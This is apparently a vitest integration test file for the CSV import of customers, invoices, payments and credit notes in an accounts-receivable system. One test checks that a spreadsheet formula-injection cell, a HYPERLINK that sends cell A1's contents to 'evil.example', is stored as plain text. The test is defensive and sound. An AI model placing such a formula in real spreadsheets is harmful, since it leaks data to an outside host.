import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestDb, describeEngines, type TestDb } from '../../helpers/db.js';
import { CUSTOMERS, count, csv, invoiceRow, newOrg, run } from './helpers.js';

describeEngines('importFile', (engine) => {
  let t: TestDb;
  beforeAll(async () => {
    t = await createTestDb(engine);
  });
  afterAll(async () => t.drop());

  describe('customers and invoices', () => {
    it('imports customers with French headers and their primary contact', async () => {
      const org = await newOrg(t);
      const s = await run(t, org, 'customers', CUSTOMERS);
      expect(s).toMatchObject({ status: 'committed', rowsRead: 3, accepted: 3, rejected: 0, created: 3 });
      expect(s.columns).toMatchObject({
        'Code client': 'externalRef',
        'Raison sociale': 'name',
        SIREN: 'siren',
      });
      const c = await sql<{ siren: string; city: string }>`
        select siren, city from customers where org_id = ${org} and external_ref = 'C001'`.execute(t.db);
      expect(c.rows[0]).toEqual({ siren: '552100554', city: 'Lyon' });
      expect(await count(t, 'contacts', org)).toBe(1);
    });

    it('re-importing the same invoice file creates nothing the second time', async () => {
      const org = await newOrg(t);
      await run(t, org, 'customers', CUSTOMERS);
      const file = csv([
        'N° facture;Code client;Date facture;Date d’échéance;Montant HT;TVA;Montant TTC',
        'F-001;C001;15/01/2026;14/02/2026;1 000,00;200,00;1 200,00',
        'F-002;C002;2026-01-20;2026-02-19;500;100;600',
      ]);
      const first = await run(t, org, 'invoices', file);
      expect(first).toMatchObject({ created: 2, updated: 0, unchanged: 0, accepted: 2 });
      const second = await run(t, org, 'invoices', file);
      expect(second).toMatchObject({ created: 0, updated: 0, unchanged: 2, accepted: 2 });
      expect(await count(t, 'invoices', org)).toBe(2);
      expect(await invoiceRow(t, org, 'F-001')).toMatchObject({
        gross_minor: 120000,
        balance_minor: 120000,
        status: 'open',
        due_date: '2026-02-14',
      });
    });

    it('applies an updated file and records old and new values in ledger_history', async () => {
      const org = await newOrg(t);
      await run(t, org, 'customers', CUSTOMERS);
      const header = 'Invoice number,Customer code,Invoice date,Due date,Gross,Description';
      await run(
        t,
        org,
        'invoices',
        csv([header, 'A1,C001,2026-01-01,2026-01-31,100.00,first', 'A2,C001,2026-01-01,2026-01-31,50,x']),
      );
      const s = await run(
        t,
        org,
        'invoices',
        csv([
          header,
          'A1,C001,2026-01-01,2026-03-31,150.00,first',
          'A2,C001,2026-01-01,2026-01-31,50,x',
          'A3,C002,2026-02-01,2026-03-01,10,new',
        ]),
      );
      expect(s).toMatchObject({ created: 1, updated: 1, unchanged: 1 });
      expect(await invoiceRow(t, org, 'A1')).toMatchObject({
        gross_minor: 15000,
        balance_minor: 15000,
        due_date: '2026-03-31',
      });
      const h = await sql<{
        entity: string;
        action: string;
        changes: Record<string, { old: unknown; new: unknown }>;
        import_batch_id: string;
      }>`
        select entity, action, changes, import_batch_id from ledger_history where org_id = ${org}`.execute(
        t.db,
      );
      expect(h.rows).toHaveLength(1);
      expect(h.rows[0]?.entity).toBe('invoice');
      expect(h.rows[0]?.import_batch_id).toBe(s.batchId);
      expect(h.rows[0]?.changes).toEqual({
        due_date: { old: '2026-01-31', new: '2026-03-31' },
        gross_minor: { old: 10000, new: 15000 },
      });
    });

    it('rejects everything in all-or-nothing mode yet reports every bad row', async () => {
      const org = await newOrg(t);
      await run(t, org, 'customers', CUSTOMERS);
      const s = await run(
        t,
        org,
        'invoices',
        csv([
          'N° facture;Client;Date facture;Échéance;Montant TTC',
          'B1;C001;01/02/2026;01/03/2026;100',
          'B2;C001;01/02/2026;01/01/2026;100',
          'B3;C404;01/02/2026;01/03/2026;100',
          'B4;C002;01/02/2026;01/03/2026;-5',
          'B1;C002;01/02/2026;01/03/2026;7',
        ]),
        // Every date reads both ways: the order is said (issue 17 §3), never guessed.
        { mode: 'all-or-nothing', batchSize: 2, dateFormat: 'DD/MM/YYYY' },
      );
      expect(s.status).toBe('rejected');
      expect(s).toMatchObject({ rowsRead: 5, accepted: 0, rejected: 5, created: 0, rowsWithErrors: 4 });
      expect(s.errors.map((e) => [e.line, e.field])).toEqual([
        [3, 'dueDate'],
        [4, 'customerRef'],
        [5, 'gross'],
        [6, 'invoiceNumber'],
      ]);
      expect(s.errors[1]).toMatchObject({
        column: 'Client',
        value: 'C404',
        reason: expect.stringMatching(/unknown customer/),
      });
      expect(await count(t, 'invoices', org)).toBe(0);
      const b = await sql<{ status: string; rows_read: number; rows_rejected: number; errors: unknown[] }>`
        select status, rows_read, rows_rejected, errors from import_batches where org_id = ${org} and id = ${s.batchId}`.execute(
        t.db,
      );
      expect(b.rows[0]).toMatchObject({ status: 'rejected', rows_read: 5, rows_rejected: 5 });
      expect(b.rows[0]?.errors).toHaveLength(4);
    });

    it('keeps the valid rows in accept-valid mode and refuses an unknown customer', async () => {
      const org = await newOrg(t);
      await run(t, org, 'customers', CUSTOMERS);
      const s = await run(
        t,
        org,
        'invoices',
        csv([
          'invoice,customer code,issue date,due date,gross',
          'V1,C001,2026-01-01,2026-02-01,10',
          'V2,NOPE,2026-01-01,2026-02-01,10',
        ]),
      );
      expect(s).toMatchObject({ status: 'committed', rowsRead: 2, accepted: 1, rejected: 1, created: 1 });
      expect(s.errors).toEqual([
        expect.objectContaining({ line: 3, field: 'customerRef', value: 'NOPE', column: 'customer code' }),
      ]);
    });

    it('creates an unknown customer when the invoice row gives its name', async () => {
      const org = await newOrg(t);
      const s = await run(
        t,
        org,
        'invoices',
        csv([
          'N° facture;Code client;Raison sociale;Date facture;Échéance;Montant TTC',
          'N1;NEW1;Nouveau Client SAS;2026-01-01;2026-02-01;10',
        ]),
        { createCustomers: true },
      );
      expect(s).toMatchObject({ created: 1, customersCreated: 1, rejected: 0 });
      expect(await count(t, 'customers', org)).toBe(1);
    });

    it('stores formula-injection cells as plain text', async () => {
      const org = await newOrg(t);
      await run(t, org, 'customers', CUSTOMERS);
      const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
      await run(
        t,
        org,
        'invoices',
        csv([
          'invoice,customer code,issue date,due date,gross,description',
          `X1,C001,2026-01-01,2026-02-01,10,"${evil.replaceAll('"', '""')}"`,
        ]),
      );
      expect((await invoiceRow(t, org, 'X1'))?.description).toBe(evil);
    });

    it('turns an already-paid amount into an allocated payment and replaces it on re-import', async () => {
      const org = await newOrg(t);
      await run(t, org, 'customers', CUSTOMERS);
      const header = 'invoice,customer code,issue date,due date,gross,amount paid';
      await run(
        t,
        org,
        'invoices',
        csv([header, 'P1,C001,2026-01-01,2026-02-01,100,40', 'P2,C001,2026-01-01,2026-02-01,100,100']),
      );
      expect(await invoiceRow(t, org, 'P1')).toMatchObject({
        paid_minor: 4000,
        balance_minor: 6000,
        status: 'partially_paid',
      });
      expect(await invoiceRow(t, org, 'P2')).toMatchObject({ balance_minor: 0, status: 'paid' });
      await run(
        t,
        org,
        'invoices',
        csv([header, 'P1,C001,2026-01-01,2026-02-01,100,0', 'P2,C001,2026-01-01,2026-02-01,100,100']),
      );
      expect(await invoiceRow(t, org, 'P1')).toMatchObject({
        paid_minor: 0,
        balance_minor: 10000,
        status: 'open',
      });
      expect(await count(t, 'payments', org)).toBe(1);
    });
  });

  describe('payments and credit notes', () => {
    let org: string;
    beforeAll(async () => {
      org = await newOrg(t);
      await run(t, org, 'customers', CUSTOMERS);
      await run(
        t,
        org,
        'invoices',
        csv([
          'N° facture;Code client;Date facture;Échéance;Montant TTC',
          'I-1;C001;01/01/2026;31/01/2026;100,00',
          'I-2;C001;01/01/2026;15/01/2026;100,00',
          'I-3;C001;01/01/2026;28/02/2026;100,00',
          'I-4;C002;01/01/2026;31/01/2026;300,00',
          'I-5;C003;01/01/2026;31/01/2026;80,00',
        ]),
      );
    });

    it('allocates a payment across the named invoices, oldest due first', async () => {
      const s = await run(
        t,
        org,
        'payments',
        csv([
          'Référence;Code client;Date de paiement;Montant;Factures',
          'PAY-1;C001;2026-02-01;150,00;I-1, I-2',
        ]),
      );
      expect(s).toMatchObject({ created: 1, rejected: 0 });
      expect(await invoiceRow(t, org, 'I-2')).toMatchObject({
        paid_minor: 10000,
        balance_minor: 0,
        status: 'paid',
      });
      expect(await invoiceRow(t, org, 'I-1')).toMatchObject({
        paid_minor: 5000,
        balance_minor: 5000,
        status: 'partially_paid',
      });
      expect(await invoiceRow(t, org, 'I-3')).toMatchObject({ balance_minor: 10000, status: 'open' });
    });

    it('leaves an over-payment unallocated on the customer', async () => {
      await run(
        t,
        org,
        'payments',
        csv(['Référence;Code client;Date de paiement;Montant;Facture', 'PAY-2;C002;2026-02-01;350;I-4']),
      );
      expect(await invoiceRow(t, org, 'I-4')).toMatchObject({ balance_minor: 0, status: 'paid' });
      const p = await sql<{ unallocated_minor: number }>`
        select unallocated_minor from payments where org_id = ${org} and payment_reference = 'PAY-2'`.execute(
        t.db,
      );
      expect(p.rows[0]?.unallocated_minor).toBe(5000);
    });

    it('keeps a payment naming no invoice as credit unless auto-allocation is chosen', async () => {
      await run(
        t,
        org,
        'payments',
        csv(['Référence;Code client;Date de paiement;Montant', 'PAY-3;C003;2026-02-01;30']),
      );
      expect(await invoiceRow(t, org, 'I-5')).toMatchObject({ balance_minor: 8000 });
      await run(
        t,
        org,
        'payments',
        csv(['Référence;Code client;Date de paiement;Montant', 'PAY-4;C003;2026-02-01;30']),
        {
          autoAllocate: true,
        },
      );
      expect(await invoiceRow(t, org, 'I-5')).toMatchObject({
        balance_minor: 5000,
        status: 'partially_paid',
      });
    });

    it('re-allocates a payment whose amount changed on re-import, without duplicating it', async () => {
      const file = (amount: string) =>
        csv([
          'Référence;Code client;Date de paiement;Montant;Factures',
          `PAY-5;C001;2026-02-02;${amount};I-3`,
        ]);
      await run(t, org, 'payments', file('20'));
      expect(await invoiceRow(t, org, 'I-3')).toMatchObject({ balance_minor: 8000 });
      const again = await run(t, org, 'payments', file('20'));
      expect(again).toMatchObject({ created: 0, updated: 0, unchanged: 1 });
      const changed = await run(t, org, 'payments', file('25'));
      expect(changed).toMatchObject({ created: 0, updated: 1 });
      expect(await invoiceRow(t, org, 'I-3')).toMatchObject({ paid_minor: 2500, balance_minor: 7500 });
    });

    it('refuses a payment naming an unknown invoice or another customer’s invoice', async () => {
      const s = await run(
        t,
        org,
        'payments',
        csv([
          'Référence;Code client;Date de paiement;Montant;Factures',
          'PAY-6;C001;2026-02-01;10;I-404',
          'PAY-7;C001;2026-02-01;10;I-5',
        ]),
      );
      expect(s).toMatchObject({ rowsRead: 2, accepted: 0, rejected: 2 });
      expect(s.errors.map((e) => e.reason)).toEqual([
        'unknown invoice number',
        'invoice I-5 belongs to another customer',
      ]);
    });

    it('allocates a credit note to the invoice it credits', async () => {
      const s = await run(
        t,
        org,
        'credit-notes',
        csv(['N° avoir;Code client;Facture;Date;Montant TTC;Motif', 'AV-1;C001;I-1;2026-02-10;50,00;remise']),
      );
      expect(s).toMatchObject({ created: 1, rejected: 0 });
      // Credited as much as paid: refreshBalances calls it 'credited'.
      expect(await invoiceRow(t, org, 'I-1')).toMatchObject({
        credited_minor: 5000,
        balance_minor: 0,
        status: 'credited',
      });
    });
  });
});
